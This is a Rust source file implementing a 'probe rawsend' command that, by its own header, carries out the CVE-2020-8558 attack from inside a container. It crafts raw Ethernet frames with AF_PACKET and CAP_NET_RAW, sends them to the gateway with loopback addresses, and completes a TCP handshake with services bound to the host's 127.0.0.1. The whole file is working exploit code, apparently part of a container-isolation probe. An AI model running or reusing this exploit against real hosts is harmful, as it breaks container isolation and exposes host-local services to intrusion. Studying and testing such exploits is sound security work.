//! `probe rawsend`: the CVE-2020-8558 attack, from inside a container. With
//! CAP_NET_RAW (one of docker's default capabilities) a container writes
//! whole Ethernet frames with AF_PACKET, so its own routing table cannot
//! stop it from addressing the host's 127.0.0.1: the frame goes to the
//! gateway's MAC with an IPv4 destination (or source) in 127.0.0.0/8, and
//! only the host decides what becomes of it.
//!
//! ```text
//! probe rawsend udp DST PORT [SRC]  three datagrams `rawsend`; prints `rawsend udp sent`
//! probe rawsend tcp DST PORT [SRC]  a SYN; prints `rawsend tcp synack` (and ACKs it),
//!                                   `rawsend tcp rst` or, after 3s, `rawsend tcp none`
//! ```
//!
//! DST `gateway` means the default route's gateway; SRC is eth0's address
//! unless given. A failed step prints `rawsend err STEP ERRNO` and exits 1.

use std::net::{Ipv4Addr, UdpSocket};
use std::time::{Duration, Instant};

const IF: &str = "eth0";
const ETH_P_IP: u16 = 0x0800;
const TCP_SYN: u8 = 0x02;
const TCP_RST: u8 = 0x04;
const TCP_ACK: u8 = 0x10;

/// `probe rawsend PROTO DST PORT [SRC]`.
pub fn rawsend(proto: &str, dst: &str, port: u16, src: &str) {
    let link = Link::open(IF).unwrap_or_else(|e| fail("eth0", e));
    let gateway = default_gateway().unwrap_or_else(|| fail("gateway", errno(libc::ENOENT)));
    let dst = match dst {
        "gateway" => gateway,
        other => other
            .parse()
            .unwrap_or_else(|_| fail("dst", errno(libc::EINVAL))),
    };
    let src = match src {
        "" => link.address,
        other => other
            .parse()
            .unwrap_or_else(|_| fail("src", errno(libc::EINVAL))),
    };
    let gateway_mac = resolve(gateway).unwrap_or_else(|| fail("arp", errno(libc::EHOSTUNREACH)));
    let sock = PacketSocket::bind(link.index).unwrap_or_else(|e| fail("socket", e));
    let frame = Frame {
        src_mac: link.mac,
        dst_mac: gateway_mac,
        src,
        dst,
    };
    // An ephemeral-range port of our own, so the host's answer is ours.
    let sport = 40000 + (std::process::id() % 20000) as u16;
    match proto {
        "udp" => {
            // Three, in case one is lost: the host counts any.
            for _ in 0..3 {
                sock.send(&frame.udp(sport, port, b"rawsend"))
                    .unwrap_or_else(|e| fail("send", e));
                std::thread::sleep(Duration::from_millis(50));
            }
            println!("rawsend udp sent");
        }
        "tcp" => println!("rawsend tcp {}", tcp_handshake(&sock, &frame, sport, port)),
        _ => fail("proto", errno(libc::EINVAL)),
    }
}

/// Sends a SYN (again after 1s) and waits up to 3s for the answer: a
/// SYN-ACK is ACKed, which puts the connection in the listener's accept
/// queue. Our own kernel never answers it: a source in 127.0.0.0/8 on eth0
/// is a martian to it, and the socket sees frames before IP does.
fn tcp_handshake(sock: &PacketSocket, frame: &Frame, sport: u16, dport: u16) -> &'static str {
    let isn = 0x1000_0000 ^ std::process::id();
    let syn = frame.tcp(sport, dport, isn, 0, TCP_SYN);
    let start = Instant::now();
    let mut resent = false;
    sock.send(&syn).unwrap_or_else(|e| fail("send", e));
    while start.elapsed() < Duration::from_secs(3) {
        if !resent && start.elapsed() > Duration::from_secs(1) {
            resent = true;
            sock.send(&syn).unwrap_or_else(|e| fail("send", e));
        }
        let Some(reply) = sock.recv(Duration::from_millis(200)) else {
            continue;
        };
        let Some(seg) = Segment::parse(&reply) else {
            continue;
        };
        if seg.sport != dport || seg.dport != sport {
            continue;
        }
        if seg.flags & (TCP_SYN | TCP_ACK) == TCP_SYN | TCP_ACK {
            let ack = frame.tcp(sport, dport, isn + 1, seg.seq.wrapping_add(1), TCP_ACK);
            sock.send(&ack).unwrap_or_else(|e| fail("send", e));
            return "synack";
        }
        if seg.flags & TCP_RST != 0 {
            return "rst";
        }
    }
    "none"
}

fn errno(n: i32) -> std::io::Error {
    std::io::Error::from_raw_os_error(n)
}

fn fail(step: &str, e: std::io::Error) -> ! {
    println!("rawsend err {step} {}", e.raw_os_error().unwrap_or(0));
    std::process::exit(1);
}

/// An interface's index, MAC and IPv4 address.
struct Link {
    index: i32,
    mac: [u8; 6],
    address: Ipv4Addr,
}

impl Link {
    fn open(name: &str) -> std::io::Result<Link> {
        // SAFETY: a datagram socket for the ioctls, closed below; each ioctl
        // fills the ifreq it is given, which names `name` (shorter than
        // IFNAMSIZ, NUL-terminated by the zeroing).
        unsafe {
            let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM | libc::SOCK_CLOEXEC, 0);
            if fd < 0 {
                return Err(std::io::Error::last_os_error());
            }
            let mut req: libc::ifreq = std::mem::zeroed();
            for (d, s) in req.ifr_name.iter_mut().zip(name.bytes()) {
                *d = s as libc::c_char;
            }
            // The request's type differs between libcs (c_int in musl).
            let mut ask = |op: u64| {
                if libc::ioctl(fd, op as _, &mut req) < 0 {
                    Err(std::io::Error::last_os_error())
                } else {
                    Ok(req)
                }
            };
            let got = (|| {
                let index = ask(libc::SIOCGIFINDEX)?.ifr_ifru.ifru_ifindex;
                let hw = ask(libc::SIOCGIFHWADDR)?.ifr_ifru.ifru_hwaddr.sa_data;
                let addr = ask(libc::SIOCGIFADDR)?.ifr_ifru.ifru_addr;
                let addr: libc::sockaddr_in = std::mem::transmute_copy(&addr);
                let mut mac = [0u8; 6];
                for (m, b) in mac.iter_mut().zip(hw) {
                    *m = b as u8;
                }
                Ok(Link {
                    index,
                    mac,
                    address: Ipv4Addr::from(addr.sin_addr.s_addr.to_ne_bytes()),
                })
            })();
            libc::close(fd);
            got
        }
    }
}

/// The default route's gateway, from /proc/net/route (addresses are the
/// in-memory network-order u32 printed as hex, so `to_ne_bytes` undoes it).
fn default_gateway() -> Option<Ipv4Addr> {
    let routes = std::fs::read_to_string("/proc/net/route").ok()?;
    routes.lines().skip(1).find_map(|line| {
        let f: Vec<&str> = line.split_whitespace().collect();
        if f.len() < 3 || f[1] != "00000000" {
            return None;
        }
        let gw = u32::from_str_radix(f[2], 16).ok()?;
        Some(Ipv4Addr::from(gw.to_ne_bytes()))
    })
}

/// The gateway's MAC from /proc/net/arp, after a datagram to its discard
/// port made the kernel ask for it (bounded: 3s).
fn resolve(gateway: Ipv4Addr) -> Option<[u8; 6]> {
    let udp = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok()?;
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(3) {
        let _ = udp.send_to(b"arp", (gateway, 9));
        std::thread::sleep(Duration::from_millis(100));
        let table = std::fs::read_to_string("/proc/net/arp").unwrap_or_default();
        // "IP address  HW type  Flags  HW address  Mask  Device"; flags 0x2 is complete.
        let found = table.lines().skip(1).find_map(|line| {
            let f: Vec<&str> = line.split_whitespace().collect();
            if f.len() < 6 || f[0] != gateway.to_string() || f[2] != "0x2" {
                return None;
            }
            let mut mac = [0u8; 6];
            let parts: Vec<u8> = f[3]
                .split(':')
                .filter_map(|h| u8::from_str_radix(h, 16).ok())
                .collect();
            (parts.len() == 6).then(|| {
                mac.copy_from_slice(&parts);
                mac
            })
        });
        if found.is_some() {
            return found;
        }
    }
    None
}

/// An AF_PACKET socket bound to one interface, for whole IPv4 frames.
struct PacketSocket {
    fd: i32,
}

impl PacketSocket {
    fn bind(index: i32) -> std::io::Result<PacketSocket> {
        // SAFETY: socket(2) and bind(2) with a zeroed, filled sockaddr_ll of
        // the size passed.
        unsafe {
            let fd = libc::socket(
                libc::AF_PACKET,
                libc::SOCK_RAW | libc::SOCK_CLOEXEC,
                i32::from(ETH_P_IP.to_be()),
            );
            if fd < 0 {
                return Err(std::io::Error::last_os_error());
            }
            let sock = PacketSocket { fd };
            let mut addr: libc::sockaddr_ll = std::mem::zeroed();
            addr.sll_family = libc::AF_PACKET as u16;
            addr.sll_protocol = ETH_P_IP.to_be();
            addr.sll_ifindex = index;
            let len = std::mem::size_of::<libc::sockaddr_ll>() as u32;
            if libc::bind(fd, (&raw const addr).cast(), len) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(sock)
        }
    }

    fn send(&self, frame: &[u8]) -> std::io::Result<()> {
        // SAFETY: writes `frame`, of its length, on our socket.
        let n = unsafe { libc::send(self.fd, frame.as_ptr().cast(), frame.len(), 0) };
        if n != frame.len() as isize {
            return Err(std::io::Error::last_os_error());
        }
        Ok(())
    }

    /// The next frame that came in (not one we sent), within `wait`.
    fn recv(&self, wait: Duration) -> Option<Vec<u8>> {
        let mut pfd = libc::pollfd {
            fd: self.fd,
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: one pollfd; then a read into our buffer, of its length,
        // with a sockaddr_ll and its size for the packet type.
        unsafe {
            if libc::poll(&mut pfd, 1, wait.as_millis() as i32) <= 0 {
                return None;
            }
            let mut buf = vec![0u8; 2048];
            let mut from: libc::sockaddr_ll = std::mem::zeroed();
            let mut len = std::mem::size_of::<libc::sockaddr_ll>() as u32;
            let n = libc::recvfrom(
                self.fd,
                buf.as_mut_ptr().cast(),
                buf.len(),
                0,
                (&raw mut from).cast(),
                &mut len,
            );
            if n <= 0 || from.sll_pkttype == libc::PACKET_OUTGOING {
                return None;
            }
            buf.truncate(n as usize);
            Some(buf)
        }
    }
}

impl Drop for PacketSocket {
    fn drop(&mut self) {
        // SAFETY: our own fd, closed once.
        unsafe { libc::close(self.fd) };
    }
}

/// Who an IPv4 frame is from and to.
struct Frame {
    src_mac: [u8; 6],
    dst_mac: [u8; 6],
    src: Ipv4Addr,
    dst: Ipv4Addr,
}

impl Frame {
    fn udp(&self, sport: u16, dport: u16, payload: &[u8]) -> Vec<u8> {
        let mut seg = Vec::new();
        seg.extend_from_slice(&sport.to_be_bytes());
        seg.extend_from_slice(&dport.to_be_bytes());
        seg.extend_from_slice(&(8 + payload.len() as u16).to_be_bytes());
        seg.extend_from_slice(&[0, 0]);
        seg.extend_from_slice(payload);
        // An all-zero UDP checksum means "none" (RFC 768), so 0 is sent as ffff.
        let sum = match self.transport_checksum(libc::IPPROTO_UDP as u8, &seg) {
            0 => 0xffff,
            s => s,
        };
        seg[6..8].copy_from_slice(&sum.to_be_bytes());
        self.ipv4(libc::IPPROTO_UDP as u8, &seg)
    }

    fn tcp(&self, sport: u16, dport: u16, seq: u32, ack: u32, flags: u8) -> Vec<u8> {
        let mut seg = Vec::new();
        seg.extend_from_slice(&sport.to_be_bytes());
        seg.extend_from_slice(&dport.to_be_bytes());
        seg.extend_from_slice(&seq.to_be_bytes());
        seg.extend_from_slice(&ack.to_be_bytes());
        seg.push(5 << 4); // data offset: 5 words, no options
        seg.push(flags);
        seg.extend_from_slice(&64240u16.to_be_bytes()); // window
        seg.extend_from_slice(&[0, 0, 0, 0]); // checksum, urgent pointer
        let sum = self.transport_checksum(libc::IPPROTO_TCP as u8, &seg);
        seg[16..18].copy_from_slice(&sum.to_be_bytes());
        self.ipv4(libc::IPPROTO_TCP as u8, &seg)
    }

    /// The checksum over the pseudo-header (RFC 793, RFC 768) and `seg`.
    fn transport_checksum(&self, proto: u8, seg: &[u8]) -> u16 {
        let mut pseudo = Vec::new();
        pseudo.extend_from_slice(&self.src.octets());
        pseudo.extend_from_slice(&self.dst.octets());
        pseudo.extend_from_slice(&[0, proto]);
        pseudo.extend_from_slice(&(seg.len() as u16).to_be_bytes());
        pseudo.extend_from_slice(seg);
        checksum(&pseudo)
    }

    /// Ethernet and IPv4 headers around `payload`.
    fn ipv4(&self, proto: u8, payload: &[u8]) -> Vec<u8> {
        let mut ip = vec![0x45, 0];
        ip.extend_from_slice(&(20 + payload.len() as u16).to_be_bytes());
        ip.extend_from_slice(&[0, 0, 0x40, 0, 64, proto, 0, 0]); // id, DF, ttl, proto, checksum
        ip.extend_from_slice(&self.src.octets());
        ip.extend_from_slice(&self.dst.octets());
        let sum = checksum(&ip);
        ip[10..12].copy_from_slice(&sum.to_be_bytes());
        let mut frame = Vec::new();
        frame.extend_from_slice(&self.dst_mac);
        frame.extend_from_slice(&self.src_mac);
        frame.extend_from_slice(&ETH_P_IP.to_be_bytes());
        frame.extend_from_slice(&ip);
        frame.extend_from_slice(payload);
        frame
    }
}

/// The Internet checksum (RFC 1071).
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// The ports, flags and sequence number of a TCP segment in an IPv4 frame.
struct Segment {
    sport: u16,
    dport: u16,
    seq: u32,
    flags: u8,
}

impl Segment {
    fn parse(frame: &[u8]) -> Option<Segment> {
        let ip = frame.get(14..)?;
        if u16::from_be_bytes([frame[12], frame[13]]) != ETH_P_IP
            || ip.first()? >> 4 != 4
            || *ip.get(9)? != libc::IPPROTO_TCP as u8
        {
            return None;
        }
        let tcp = ip.get(usize::from(ip[0] & 0x0f) * 4..)?;
        let be16 = |i: usize| Some(u16::from_be_bytes([*tcp.get(i)?, *tcp.get(i + 1)?]));
        Some(Segment {
            sport: be16(0)?,
            dport: be16(2)?,
            seq: u32::from_be_bytes(tcp.get(4..8)?.try_into().ok()?),
            flags: *tcp.get(13)?,
        })
    }
}
